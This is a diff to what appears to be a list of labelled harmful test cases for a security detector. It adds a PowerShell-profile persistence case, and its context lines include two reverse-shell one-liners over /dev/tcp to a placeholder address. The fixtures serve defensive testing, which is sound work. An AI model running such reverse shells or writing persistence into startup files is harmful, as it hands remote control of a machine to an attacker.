@@ -50,6 +50,8 @@ HARMFUL: list[tuple[str, str | dict[str, Any]]] = [
         "persistence",
         _file("/home/dev/.local/lib/python3.11/site-packages/usercustomize.py", "x=1\n"),
     ),
+    # a PowerShell profile runs at every start of the shell
+    ("persistence", _file("~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "ls\n")),
     # reverse shells over /dev/tcp
     ("reverse-shell-code", "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196"),
     ("reverse-shell-code", "bash < /dev/tcp/203.0.113.9/4444"),
